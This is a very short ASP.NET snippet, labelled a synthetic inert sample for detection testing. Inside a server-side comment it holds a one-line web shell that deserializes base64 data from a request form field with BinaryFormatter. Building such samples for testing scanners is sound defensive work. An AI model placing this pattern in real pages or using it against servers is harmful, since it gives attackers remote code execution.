<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% new BinaryFormatter().Deserialize(new MemoryStream(Convert.FromBase64String(Request.Form["d"]))); %>
--%>
